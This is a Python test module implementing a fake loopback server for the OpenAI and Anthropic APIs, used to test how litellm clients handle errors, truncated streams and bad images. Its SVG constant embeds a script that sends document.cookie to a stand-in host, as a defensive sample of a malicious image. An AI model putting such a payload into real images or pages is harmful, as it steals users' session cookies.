"""Loopback fake LLM providers speaking the OpenAI and Anthropic HTTP APIs.

One :class:`FakeProvider` serves both APIs on one 127.0.0.1 port, close enough to the wire
formats that litellm (via ``api_base``) talks to it with its real client code::

    with FakeProvider() as fake:
        fake.program(error(429, retry_after=0.01), ok(prompt_tokens=100, completion_tokens=7))
        litellm.completion(model="openai/gpt-4o-mini", api_base=fake.openai_base,
                           api_key="sk-test", messages=[...])
        litellm.completion(model="anthropic/claude-haiku-4-5", api_base=fake.anthropic_base,
                           api_key="sk-ant-test", messages=[...])
        fake.requests[-1].reported_usage  # the usage numbers the server sent

Endpoints: ``POST /v1/chat/completions`` (stream and not), ``POST /v1/images/generations``,
``GET /v1/models`` (OpenAI); ``POST /v1/messages`` (Anthropic, stream and not); and
``GET /files/<name>.png`` serving images returned with ``response_format="url"``.

Each POST to an API endpoint consumes the next programmed :class:`Behaviour` (FIFO); with the
queue empty, :attr:`FakeProvider.default` (``ok()``) applies. Every request, whatever its path,
is appended to :attr:`FakeProvider.requests` as a :class:`Recorded` (``behaviour`` is "none"
for requests that consume no behaviour: ``GET /v1/models``, image files, unknown paths -> 404).

Usage semantics: ``reported_usage`` is always OpenAI-shaped: ``prompt_tokens`` includes the
``cached_tokens``. On the Anthropic wire that becomes ``input_tokens = prompt - cached`` and
``cache_read_input_tokens = cached``, which litellm adds back up into ``prompt_tokens``.

Images: ``n`` PNGs (8x8, colour from prompt and index: see :func:`png_bytes`), or another format
with :func:`images_as` (JPEG, WebP, GIF, a truncated PNG, or an SVG passed off as an image). As
the real
API, DALL-E models answer with URLs unless ``response_format`` is "b64_json" (litellm 1.110
only lets that field through via ``extra_body``); other models (gpt-image-*) always b64_json,
with a ``usage`` block whose ``output_tokens`` are OpenAI's per image for the quality and size
(272 for low 1024x1024; :data:`GPT_IMAGE_TOKENS`). As the real API, a gpt-image request it would
refuse (a ``response_format``, a quality or size gpt-image does not make, ``n`` outside 1..10)
is answered 400 ``invalid_request_error`` naming the parameter; it consumes no behaviour and is
recorded with ``behaviour`` "invalid".

Streams use ``Transfer-Encoding: chunked`` (every SSE event is its own HTTP chunk, written
straight to the socket), so ``cut`` is a real truncated body, not a clean EOF. Every response
carries ``Connection: close``: one TCP connection per request keeps request counts exact.
``cut_at_end`` sends everything but the stream's last event (``[DONE]``, ``message_stop``), so
the text, the finish reason and the usage all arrive before the connection drops.

Every :class:`Recorded` carries ``received_at`` (the request had fully arrived) and, once the
server began its answer, ``answered_at`` (``time.monotonic()`` of this process: the fake runs in
the test's process). The client cannot have read an answer before ``answered_at`` nor sent a
request after its ``received_at``, so ``next.received_at - previous.answered_at`` is a lower bound
on how long the client really waited between the two: enough to show that a retry came no sooner
than the ``retry-after`` it was told.
"""

from __future__ import annotations

import base64
import contextlib
import hashlib
import io
import itertools
import json
import socket
import threading
import time
from collections import deque
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from types import TracebackType
from typing import Any, Literal
from urllib.parse import urlsplit

from PIL import Image

BehaviourKind = Literal[
    "ok",
    "error",
    "hang",
    "malformed",
    "cut",
    "cut_at_end",
    "stall",
    "slow_stream",
    "fewer_images",
    "images_as",
]
ImageFormat = Literal["PNG", "JPEG", "WEBP", "GIF", "SVG", "TRUNCATED_PNG"]

FILLER = ("lorem", "ipsum", "dolor", "sit", "amet", "consectetur", "adipiscing", "elit", "sed")

_OPENAI_ERROR_TYPES = {
    400: ("invalid_request_error", None),
    401: ("invalid_request_error", "invalid_api_key"),
    403: ("invalid_request_error", "unsupported_country_region_territory"),
    404: ("invalid_request_error", "model_not_found"),
    429: ("requests", "rate_limit_exceeded"),
}
_ANTHROPIC_ERROR_TYPES = {
    400: "invalid_request_error",
    401: "authentication_error",
    403: "permission_error",
    404: "not_found_error",
    413: "request_too_large",
    429: "rate_limit_error",
    529: "overloaded_error",
}


@dataclass(frozen=True)
class Behaviour:
    """What the server does with one request. Build with the module functions below."""

    kind: BehaviourKind = "ok"
    reply_words: int = 12
    prompt_tokens: int | None = None
    completion_tokens: int | None = None
    cached_tokens: int = 0
    status: int = 500
    body: dict[str, Any] | None = None
    retry_after: float | str | None = None
    seconds: float = 0.0
    after_chunks: int = 0
    delay_s: float = 0.0
    images: int = 0
    image_formats: tuple[ImageFormat, ...] = ("PNG",)


def ok(
    reply_words: int = 12,
    prompt_tokens: int | None = None,
    completion_tokens: int | None = None,
    cached_tokens: int = 0,
) -> Behaviour:
    """A normal reply. Token counts default to word counts (prompt words + 3, reply words)."""
    return Behaviour(
        "ok",
        reply_words=reply_words,
        prompt_tokens=prompt_tokens,
        completion_tokens=completion_tokens,
        cached_tokens=cached_tokens,
    )


def error(
    status: int, body: dict[str, Any] | None = None, retry_after: float | str | None = None
) -> Behaviour:
    """An HTTP error in the API's own error shape (``body`` replaces it verbatim if given);
    ``retry_after`` adds a ``retry-after`` header."""
    return Behaviour("error", status=status, body=body, retry_after=retry_after)


def hang(seconds: float, **reply: Any) -> Behaviour:
    """Sleep ``seconds`` before sending anything, then reply as ``ok(**reply)`` would."""
    return Behaviour("hang", seconds=seconds, **reply)


def malformed() -> Behaviour:
    """200 with a body that is not JSON (non-stream) or a garbage SSE data line (stream)."""
    return Behaviour("malformed")


def cut(after_chunks: int = 2, **reply: Any) -> Behaviour:
    """Stream: send ``after_chunks`` content chunks, then drop the connection mid-body (no
    finish/usage/``[DONE]``/``message_stop``). Non-stream: drop the connection mid-body."""
    return Behaviour("cut", after_chunks=after_chunks, **reply)


def cut_at_end(quiet_s: float = 0.0, **reply: Any) -> Behaviour:
    """Stream: send the whole reply, its finish reason and its usage, then (after ``quiet_s`` of
    silence, the connection open) drop the connection before the stream's last event (OpenAI's
    ``data: [DONE]``, Anthropic's ``message_stop``)."""
    return Behaviour("cut_at_end", seconds=quiet_s, **reply)


def stall(after_chunks: int, seconds: float, **reply: Any) -> Behaviour:
    """Stream: send ``after_chunks`` content chunks, then go quiet for ``seconds`` (the connection
    open, nothing sent), then finish the reply as ``ok(**reply)`` would."""
    return Behaviour("stall", after_chunks=after_chunks, seconds=seconds, **reply)


def slow_stream(delay_s: float, **reply: Any) -> Behaviour:
    """A normal reply, but sleep ``delay_s`` between stream events."""
    return Behaviour("slow_stream", delay_s=delay_s, **reply)


def fewer_images(k: int) -> Behaviour:
    """Image generation returning only ``k`` images whatever ``n`` was asked."""
    return Behaviour("fewer_images", images=k)


def images_as(*image_formats: ImageFormat) -> Behaviour:
    """Image generation answering with images in these formats, image ``i`` in
    ``image_formats[i % len(image_formats)]`` (as ``b64_json``, or from the file URL), whatever
    was asked. "SVG" is a vector drawing carrying a script, which a provider gone wrong might send
    where a raster image is expected; "TRUNCATED_PNG" the first half of a PNG."""
    return Behaviour("images_as", image_formats=image_formats or ("PNG",))


# gpt-image models: what the real API accepts, and the output tokens it reports per image.
GPT_IMAGE_QUALITIES = ("low", "medium", "high", "auto")
GPT_IMAGE_SIZES = ("1024x1024", "1024x1536", "1536x1024", "auto")
GPT_IMAGE_TOKENS = {
    ("low", "1024x1024"): 272,
    ("low", "1024x1536"): 408,
    ("low", "1536x1024"): 400,
    ("medium", "1024x1024"): 1056,
    ("medium", "1024x1536"): 1584,
    ("medium", "1536x1024"): 1568,
    ("high", "1024x1024"): 4160,
    ("high", "1024x1536"): 6240,
    ("high", "1536x1024"): 6208,
}


def _gpt_image_refusal(body: dict[str, Any]) -> dict[str, Any] | None:
    """The 400 the real API gives a gpt-image request it does not accept, or None."""
    if not str(body.get("model", "")).startswith("gpt-image"):
        return None

    def refused(param: str, code: str, message: str) -> dict[str, Any]:
        error = {"message": message, "type": "invalid_request_error", "param": param}
        return {"error": {**error, "code": code}}

    if "response_format" in body:
        return refused(
            "response_format", "unknown_parameter", "Unknown parameter: 'response_format'."
        )
    for param, allowed in (("quality", GPT_IMAGE_QUALITIES), ("size", GPT_IMAGE_SIZES)):
        value = body.get(param, "auto")
        if value not in allowed:
            supported = ", ".join(f"'{a}'" for a in allowed[:-1]) + f", and '{allowed[-1]}'"
            return refused(
                param,
                "invalid_value",
                f"Invalid value: '{value}'. Supported values are: {supported}.",
            )
    n = body.get("n", 1)
    if not isinstance(n, int) or isinstance(n, bool) or not 1 <= n <= 10:
        return refused("n", "invalid_value", f"Invalid 'n': expected 1 to 10, got {n!r}.")
    return None


@dataclass(frozen=True)
class Recorded:
    """One HTTP request the server received, and what it answered.

    ``reported_usage`` ({prompt_tokens, completion_tokens, cached_tokens}, OpenAI semantics)
    is set when the server sends (or, for ``hang``, would send after the delay) a chat usage
    block; it is None for errors, ``malformed``, ``cut`` and OpenAI streams without
    ``stream_options.include_usage``. ``images_returned`` is set for image generations.
    ``finished`` is set once the handler is done with the request; ``client_gone`` if a write
    failed because the client had closed the connection (e.g. it stopped reading a stream).
    ``received_at``, ``answered_at`` and ``finished_at`` are ``time.monotonic()`` when the request
    had been read, when the first byte of the answer was about to be written, and when the handler
    was done (None until then); ``received_wall`` is ``time.time()`` on arrival.
    """

    path: str
    method: str
    headers: dict[str, str]
    body: dict[str, Any]
    behaviour: str
    reported_usage: dict[str, int] | None = None
    images_returned: int | None = None
    finished: threading.Event = field(default_factory=threading.Event, compare=False, repr=False)
    client_gone: threading.Event = field(default_factory=threading.Event, compare=False, repr=False)
    received_at: float = field(default_factory=time.monotonic, compare=False)
    received_wall: float = field(default_factory=time.time, compare=False)
    _stamps: dict[str, float] = field(default_factory=dict, compare=False, repr=False)

    @property
    def answered_at(self) -> float | None:
        return self._stamps.get("answered")

    @property
    def finished_at(self) -> float | None:
        return self._stamps.get("finished")

    def _answer(self) -> None:
        self._stamps.setdefault("answered", time.monotonic())

    def _finish(self) -> None:
        self._stamps.setdefault("finished", time.monotonic())
        self.finished.set()


@dataclass(frozen=True)
class _Reply:
    text: str
    words: list[str]
    usage: dict[str, int]


class _ClientGone(Exception):
    """The peer closed the connection while we were writing."""


class _Server(ThreadingHTTPServer):
    daemon_threads = True
    block_on_close = False
    allow_reuse_address = True
    request_queue_size = 256  # listen backlog: the default 5 refuses bursts (benchmarks)

    def __init__(self, provider: FakeProvider) -> None:
        self.provider = provider
        super().__init__(("127.0.0.1", 0), _Handler)


def _text_of(content: Any) -> str:
    """Text of a message ``content``: a string or a list of content parts/blocks."""
    if isinstance(content, str):
        return content
    if isinstance(content, list):
        return " ".join(str(part.get("text", "")) for part in content if isinstance(part, dict))
    return ""


def reply_for(messages: list[dict[str, Any]], reply_words: int = 12) -> str:
    """The text ``ok(reply_words=...)`` answers to ``messages`` (OpenAI-shaped, as given to
    litellm): "Fake reply to: <first 40 chars of the last user message>" plus filler words."""
    return _make_reply({"messages": messages}, ok(reply_words=reply_words)).text


def _make_reply(body: dict[str, Any], behaviour: Behaviour) -> _Reply:
    messages = [m for m in body.get("messages", []) if isinstance(m, dict)]
    texts = [_text_of(m.get("content")) for m in messages]
    system = body.get("system")  # Anthropic carries the system prompt outside ``messages``
    if system is not None:
        texts.append(_text_of(system))
    user = [_text_of(m.get("content")) for m in messages if m.get("role") == "user"]
    words = f"Fake reply to: {(user[-1] if user else '')[:40]}".split()
    words += list(
        itertools.islice(itertools.cycle(FILLER), max(0, behaviour.reply_words - len(words)))
    )
    prompt = behaviour.prompt_tokens
    if prompt is None:
        prompt = sum(len(t.split()) for t in texts) + 3
    completion = behaviour.completion_tokens
    if completion is None:
        completion = len(words)
    usage = {
        "prompt_tokens": prompt,
        "completion_tokens": completion,
        "cached_tokens": behaviour.cached_tokens,
    }
    return _Reply(text=" ".join(words), words=words, usage=usage)


def _deltas(words: list[str]) -> list[str]:
    """One delta per word, trailing space on all but the last: they join to the reply."""
    return [w if i == len(words) - 1 else w + " " for i, w in enumerate(words)]


def png_bytes(prompt: str, index: int = 0, size: int = 8) -> bytes:
    """A small solid-colour PNG whose colour derives from the prompt and the image index."""
    return image_bytes(prompt, index, "PNG", size)


SVG = (
    '<svg xmlns="http://www.w3.org/2000/svg" width="8" height="8">'
    '<script>fetch("http://127.0.0.1:9/?stolen="+document.cookie)</script>'
    '<rect width="8" height="8" fill="#c00"/></svg>'
)


def image_bytes(
    prompt: str, index: int = 0, image_format: ImageFormat = "PNG", size: int = 8
) -> bytes:
    """A small solid-colour image in ``image_format`` whose colour derives from the prompt and the
    image index; "SVG" is the same scripted drawing whatever the prompt."""
    if image_format == "SVG":
        return SVG.encode()
    if image_format == "TRUNCATED_PNG":
        whole = image_bytes(prompt, index, "PNG", size)
        return whole[: len(whole) // 2]
    digest = hashlib.sha256(f"{prompt}\0{index}".encode()).digest()
    buf = io.BytesIO()
    colour = (digest[0], digest[1], digest[2])
    Image.new("RGB", (size, size), colour).save(buf, format=image_format)
    return buf.getvalue()


class _Handler(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"
    server: _Server
    _rec: Recorded | None = None

    def setup(self) -> None:
        super().setup()
        # SSE events are small writes: without NODELAY, Nagle could hold them back.
        self.connection.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)

    def log_message(self, format: str, *args: Any) -> None:
        pass

    # --- dispatch -------------------------------------------------------------------------

    def do_GET(self) -> None:
        self._dispatch()

    def do_POST(self) -> None:
        self._dispatch()

    def _dispatch(self) -> None:
        self.close_connection = True
        provider = self.server.provider
        path = urlsplit(self.path).path
        raw = self.rfile.read(int(self.headers.get("content-length") or 0))
        try:
            parsed = json.loads(raw) if raw else {}
        except ValueError:
            parsed = {}
        body: dict[str, Any] = parsed if isinstance(parsed, dict) else {}
        headers: dict[str, str] = {}
        for name, value in self.headers.items():
            key = name.lower()
            headers[key] = f"{headers[key]}, {value}" if key in headers else value

        route = (self.command, path)
        api = {
            ("POST", "/v1/chat/completions"): "openai",
            ("POST", "/v1/messages"): "anthropic",
            ("POST", "/v1/images/generations"): "images",
        }.get(route)
        if api is None:
            rec = provider._record(path, self.command, headers, body, "none")
            self._rec = rec
            try:
                self._serve_static(path)
            finally:
                rec._finish()
            return

        refusal = _gpt_image_refusal(body) if api == "images" else None
        if refusal is not None:
            rec = provider._record(path, self.command, headers, body, "invalid")
            self._rec = rec
            try:
                self._send_json(400, refusal)
            except _ClientGone:
                rec.client_gone.set()
            finally:
                rec._finish()
            return

        behaviour = provider._next_behaviour()
        reply = _make_reply(body, behaviour) if api != "images" else None
        stream = bool(body.get("stream")) and api != "images"
        reported: dict[str, int] | None = None
        images: int | None = None
        if behaviour.kind in (
            "ok",
            "hang",
            "slow_stream",
            "stall",
            "fewer_images",
            "images_as",
            "cut_at_end",
        ):
            if api == "images":
                n = int(body.get("n") or 1)
                images = behaviour.images if behaviour.kind == "fewer_images" else n
            elif api == "anthropic" or not stream or _include_usage(body):
                assert reply is not None
                reported = reply.usage
        rec = provider._record(path, self.command, headers, body, behaviour.kind, reported, images)
        self._rec = rec
        try:
            if behaviour.kind == "hang" and not provider._sleep(behaviour.seconds):
                return
            if behaviour.kind == "error":
                self._send_error(api, behaviour)
            elif behaviour.kind == "malformed":
                self._send_malformed(stream)
            elif api == "images":
                n = int(body.get("n") or 1)
                self._send_images(body, behaviour, n if images is None else images)
            elif behaviour.kind == "cut" and not stream:
                assert reply is not None
                self._send_cut_json(self._chat_json(api, body, reply))
            elif stream:
                assert reply is not None
                self._send_stream(api, body, reply, behaviour)
            else:
                assert reply is not None
                self._send_json(200, self._chat_json(api, body, reply))
        except _ClientGone:
            rec.client_gone.set()
        finally:
            rec._finish()

    # --- low-level writing ----------------------------------------------------------------

    def _write(self, data: bytes) -> None:
        try:
            self.wfile.write(data)
            self.wfile.flush()
        except OSError as exc:  # BrokenPipe, ConnectionReset, ...
            raise _ClientGone from exc

    def _start(self, status: int, content_type: str, extra: dict[str, str] | None = None) -> None:
        if self._rec is not None:
            self._rec._answer()
        self.send_response(status)
        self.send_header("Content-Type", content_type)
        self.send_header("Connection", "close")
        self.send_header("x-request-id", f"req_fake_{id(self):x}")
        self.send_header("request-id", f"req_fake_{id(self):x}")
        for name, value in (extra or {}).items():
            self.send_header(name, value)

    def _send_bytes(
        self, status: int, content_type: str, data: bytes, extra: dict[str, str] | None = None
    ) -> None:
        self._start(status, content_type, extra)
        self.send_header("Content-Length", str(len(data)))
        try:
            self.end_headers()
        except OSError as exc:
            raise _ClientGone from exc
        self._write(data)

    def _send_json(
        self, status: int, payload: dict[str, Any], extra: dict[str, str] | None = None
    ) -> None:
        self._send_bytes(status, "application/json", json.dumps(payload).encode(), extra)

    def _begin_chunked(self, content_type: str) -> None:
        self._start(200, content_type)
        self.send_header("Cache-Control", "no-cache")
        self.send_header("Transfer-Encoding", "chunked")
        try:
            self.end_headers()
        except OSError as exc:
            raise _ClientGone from exc

    def _chunk(self, data: bytes) -> None:
        self._write(b"%x\r\n%s\r\n" % (len(data), data))

    def _end_chunked(self) -> None:
        self._write(b"0\r\n\r\n")

    def _drop(self) -> None:
        """Close the connection abruptly (no terminating chunk / short body)."""
        with contextlib.suppress(OSError):
            self.connection.shutdown(socket.SHUT_RDWR)

    # --- responses --------------------------------------------------------------------------

    def _serve_static(self, path: str) -> None:
        provider = self.server.provider
        if self.command == "GET" and path == "/v1/models":
            self._send_json(
                200,
                {
                    "object": "list",
                    "data": [
                        {"id": m, "object": "model", "created": 0, "owned_by": "fake"}
                        for m in ("gpt-4o-mini", "dall-e-2", "gpt-image-1")
                    ],
                },
            )
            return
        png = provider._files.get(path) if self.command == "GET" else None
        if png is not None:
            self._send_bytes(200, "image/png", png)
            return
        self._send_json(
            404,
            {
                "error": {
                    "message": f"Unknown path {self.command} {path}",
                    "type": "invalid_request_error",
                    "param": None,
                    "code": "unknown_url",
                }
            },
        )

    def _send_error(self, api: str, behaviour: Behaviour) -> None:
        status = behaviour.status
        extra: dict[str, str] = {}
        if behaviour.retry_after is not None:
            extra["retry-after"] = str(behaviour.retry_after)
        payload = behaviour.body
        if payload is None and api == "anthropic":
            kind = _ANTHROPIC_ERROR_TYPES.get(status, "api_error")
            payload = {
                "type": "error",
                "error": {"type": kind, "message": f"Fake {kind} (HTTP {status})"},
            }
        elif payload is None:
            kind, code = _OPENAI_ERROR_TYPES.get(status, ("server_error", None))
            payload = {
                "error": {
                    "message": f"Fake {kind} (HTTP {status})",
                    "type": kind,
                    "param": None,
                    "code": code,
                }
            }
        self._send_json(status, payload, extra)

    def _send_malformed(self, stream: bool) -> None:
        if not stream:
            self._send_bytes(200, "application/json", b'{"id": "broken", "choices": [ <<not json')
            return
        self._begin_chunked("text/event-stream")
        self._chunk(b"data: {this is not json at all\n\n")
        self._end_chunked()

    def _send_cut_json(self, payload: dict[str, Any]) -> None:
        data = json.dumps(payload).encode()
        self._start(200, "application/json")
        self.send_header("Content-Length", str(len(data)))
        try:
            self.end_headers()
        except OSError as exc:
            raise _ClientGone from exc
        self._write(data[: len(data) // 2])
        self._drop()

    def _send_images(self, body: dict[str, Any], behaviour: Behaviour, count: int) -> None:
        provider = self.server.provider
        prompt = str(body.get("prompt", ""))
        # Like the real API: DALL-E models default to "url"; gpt-image models always b64_json.
        model = str(body.get("model", ""))
        as_url = model.startswith("dall-e") and body.get("response_format", "url") == "url"
        data: list[dict[str, Any]] = []
        for i in range(count):
            formats = behaviour.image_formats
            png = image_bytes(prompt, i, formats[i % len(formats)])
            if as_url:
                data.append({"url": provider._store_png(png), "revised_prompt": prompt})
            else:
                data.append({"b64_json": base64.b64encode(png).decode(), "revised_prompt": prompt})
        payload: dict[str, Any] = {"created": int(time.time()), "data": data}
        if model.startswith("gpt-image"):
            words = len(prompt.split())
            asked = (str(body.get("quality", "auto")), str(body.get("size", "auto")))
            output = GPT_IMAGE_TOKENS.get(asked, 272) * count  # "auto": as low and square
            payload["usage"] = {
                "input_tokens": words,
                "output_tokens": output,
                "total_tokens": words + output,
                "input_tokens_details": {"text_tokens": words, "image_tokens": 0},
            }
        if behaviour.kind == "cut":
            self._send_cut_json(payload)
        else:
            self._send_json(200, payload)

    def _chat_json(self, api: str, body: dict[str, Any], reply: _Reply) -> dict[str, Any]:
        provider = self.server.provider
        model = str(body.get("model", "fake-model"))
        usage = reply.usage
        if api == "anthropic":
            return {
                "id": f"msg_fake{provider._next_id():06d}",
                "type": "message",
                "role": "assistant",
                "model": model,
                "content": [{"type": "text", "text": reply.text}],
                "stop_reason": "end_turn",
                "stop_sequence": None,
                "usage": _anthropic_usage(usage),
            }
        return {
            "id": f"chatcmpl-fake{provider._next_id():06d}",
            "object": "chat.completion",
            "created": int(time.time()),
            "model": model,
            "system_fingerprint": "fp_fake",
            "choices": [
                {
                    "index": 0,
                    "message": {"role": "assistant", "content": reply.text, "refusal": None},
                    "logprobs": None,
                    "finish_reason": "stop",
                }
            ],
            "usage": _openai_usage(usage),
        }

    def _send_stream(
        self, api: str, body: dict[str, Any], reply: _Reply, behaviour: Behaviour
    ) -> None:
        provider = self.server.provider
        events = (
            _anthropic_events(body, reply, provider._next_id())
            if api == "anthropic"
            else _openai_events(body, reply, provider._next_id())
        )
        if behaviour.kind == "cut_at_end":
            events = events[:-1]
        self._begin_chunked("text/event-stream")
        sent_content = 0
        for is_content, event in events:
            if behaviour.kind == "cut" and is_content and sent_content >= behaviour.after_chunks:
                self._drop()
                return
            if behaviour.delay_s and not provider._sleep(behaviour.delay_s):
                self._drop()
                return
            stalls = (
                behaviour.kind == "stall" and is_content and sent_content == behaviour.after_chunks
            )
            if stalls and not provider._sleep(behaviour.seconds):
                self._drop()
                return
            self._chunk(event)
            sent_content += is_content
        if behaviour.kind == "cut_at_end":
            provider._sleep(behaviour.seconds)
            self._drop()
            return
        self._end_chunked()


def _include_usage(body: dict[str, Any]) -> bool:
    options = body.get("stream_options")
    return isinstance(options, dict) and bool(options.get("include_usage"))


def _openai_usage(usage: dict[str, int]) -> dict[str, Any]:
    return {
        "prompt_tokens": usage["prompt_tokens"],
        "completion_tokens": usage["completion_tokens"],
        "total_tokens": usage["prompt_tokens"] + usage["completion_tokens"],
        "prompt_tokens_details": {"cached_tokens": usage["cached_tokens"], "audio_tokens": 0},
        "completion_tokens_details": {
            "reasoning_tokens": 0,
            "audio_tokens": 0,
            "accepted_prediction_tokens": 0,
            "rejected_prediction_tokens": 0,
        },
    }


def _anthropic_usage(usage: dict[str, int]) -> dict[str, Any]:
    return {
        "input_tokens": usage["prompt_tokens"] - usage["cached_tokens"],
        "cache_creation_input_tokens": 0,
        "cache_read_input_tokens": usage["cached_tokens"],
        "output_tokens": usage["completion_tokens"],
    }


def _openai_events(body: dict[str, Any], reply: _Reply, seq: int) -> list[tuple[bool, bytes]]:
    """(is_content_chunk, SSE bytes) for an OpenAI chat completion stream."""
    include_usage = _include_usage(body)
    base: dict[str, Any] = {
        "id": f"chatcmpl-fake{seq:06d}",
        "object": "chat.completion.chunk",
        "created": int(time.time()),
        "model": str(body.get("model", "fake-model")),
        "system_fingerprint": "fp_fake",
    }
    if include_usage:
        base["usage"] = None

    def chunk(delta: dict[str, Any], finish: str | None = None) -> bytes:
        choice = {"index": 0, "delta": delta, "logprobs": None, "finish_reason": finish}
        return b"data: " + json.dumps({**base, "choices": [choice]}).encode() + b"\n\n"

    events = [(False, chunk({"role": "assistant", "content": "", "refusal": None}))]
    events += [(True, chunk({"content": d})) for d in _deltas(reply.words)]
    events.append((False, chunk({}, "stop")))
    if include_usage:
        final = {**base, "choices": [], "usage": _openai_usage(reply.usage)}
        events.append((False, b"data: " + json.dumps(final).encode() + b"\n\n"))
    events.append((False, b"data: [DONE]\n\n"))
    return events


def _anthropic_events(body: dict[str, Any], reply: _Reply, seq: int) -> list[tuple[bool, bytes]]:
    """(is_content_chunk, SSE bytes) for an Anthropic Messages stream."""

    def event(name: str, data: dict[str, Any]) -> bytes:
        return f"event: {name}\ndata: {json.dumps(data)}\n\n".encode()

    start_usage = {**_anthropic_usage(reply.usage), "output_tokens": 1}
    message: dict[str, Any] = {
        "id": f"msg_fake{seq:06d}",
        "type": "message",
        "role": "assistant",
        "model": str(body.get("model", "fake-model")),
        "content": [],
        "stop_reason": None,
        "stop_sequence": None,
        "usage": start_usage,
    }
    events = [
        (False, event("message_start", {"type": "message_start", "message": message})),
        (
            False,
            event(
                "content_block_start",
                {
                    "type": "content_block_start",
                    "index": 0,
                    "content_block": {"type": "text", "text": ""},
                },
            ),
        ),
        (False, event("ping", {"type": "ping"})),
    ]
    events += [
        (
            True,
            event(
                "content_block_delta",
                {
                    "type": "content_block_delta",
                    "index": 0,
                    "delta": {"type": "text_delta", "text": d},
                },
            ),
        )
        for d in _deltas(reply.words)
    ]
    events += [
        (False, event("content_block_stop", {"type": "content_block_stop", "index": 0})),
        (
            False,
            event(
                "message_delta",
                {
                    "type": "message_delta",
                    "delta": {"stop_reason": "end_turn", "stop_sequence": None},
                    "usage": {"output_tokens": reply.usage["completion_tokens"]},
                },
            ),
        ),
        (False, event("message_stop", {"type": "message_stop"})),
    ]
    return events


class FakeProvider:
    """One loopback server speaking both the OpenAI and the Anthropic HTTP APIs."""

    def __init__(self) -> None:
        self._lock = threading.Lock()
        self._queue: deque[Behaviour] = deque()
        self._stop = threading.Event()
        self._ids = itertools.count(1)
        self._files: dict[str, bytes] = {}
        self._thread: threading.Thread | None = None
        self.default: Behaviour = ok()
        self.requests: list[Recorded] = []
        self._server = _Server(self)
        host, port = self._server.server_address[:2]
        self.base_url = f"http://{host!s}:{port}"
        self.openai_base = self.base_url + "/v1"
        self.anthropic_base = self.base_url

    # --- lifecycle ------------------------------------------------------------------------

    def start(self) -> FakeProvider:
        if self._thread is None:
            self._thread = threading.Thread(
                target=self._server.serve_forever,
                kwargs={"poll_interval": 0.05},
                name=f"fake-provider-{self.base_url}",
                daemon=True,
            )
            self._thread.start()
        return self

    def stop(self) -> None:
        """Stop serving (not restartable). In-flight ``hang``/``slow_stream`` handlers give up
        at once and close their connections unanswered."""
        self._stop.set()
        if self._thread is not None:
            self._server.shutdown()
            self._thread.join(timeout=5)
            self._thread = None
        self._server.server_close()

    def __enter__(self) -> FakeProvider:
        return self.start()

    def __exit__(
        self,
        exc_type: type[BaseException] | None,
        exc: BaseException | None,
        tb: TracebackType | None,
    ) -> None:
        self.stop()

    # --- programming ----------------------------------------------------------------------

    def program(self, *behaviours: Behaviour) -> None:
        """Queue behaviours; each API request consumes the next one (FIFO)."""
        with self._lock:
            self._queue.extend(behaviours)

    def reset(self) -> None:
        """Clear the behaviour queue and the recorded requests."""
        with self._lock:
            self._queue.clear()
            self.requests.clear()

    @property
    def pending(self) -> int:
        """Programmed behaviours not yet consumed."""
        with self._lock:
            return len(self._queue)

    def api_requests(self, path: str | None = None) -> list[Recorded]:
        """Recorded API calls (POSTs), optionally only those to ``path``."""
        with self._lock:
            return [
                r for r in self.requests if r.method == "POST" and (path is None or r.path == path)
            ]

    # --- internals used by the handler ----------------------------------------------------

    def _next_behaviour(self) -> Behaviour:
        with self._lock:
            return self._queue.popleft() if self._queue else self.default

    def _next_id(self) -> int:
        with self._lock:
            return next(self._ids)

    def _record(
        self,
        path: str,
        method: str,
        headers: dict[str, str],
        body: dict[str, Any],
        behaviour: str,
        reported_usage: dict[str, int] | None = None,
        images_returned: int | None = None,
    ) -> Recorded:
        rec = Recorded(path, method, headers, body, behaviour, reported_usage, images_returned)
        with self._lock:
            self.requests.append(rec)
        return rec

    def _sleep(self, seconds: float) -> bool:
        """Sleep, waking early on stop(); False if the provider was stopped."""
        return not self._stop.wait(seconds)

    def _store_png(self, png: bytes) -> str:
        path = f"/files/img_{self._next_id():06d}.png"
        with self._lock:
            self._files[path] = png
        return self.base_url + path
